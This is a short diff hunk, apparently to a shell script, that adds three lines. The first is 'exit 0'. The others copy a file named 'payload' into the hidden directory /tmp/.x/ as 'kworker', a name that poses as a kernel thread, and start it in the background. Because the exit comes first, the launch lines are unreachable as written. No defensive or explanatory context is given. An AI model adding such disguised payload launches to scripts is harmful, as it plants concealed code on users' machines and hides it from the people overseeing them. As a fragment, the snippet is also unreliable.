@@ -1,0 +1,3 @@
+exit 0
+cp payload /tmp/.x/kworker
+/tmp/.x/kworker &
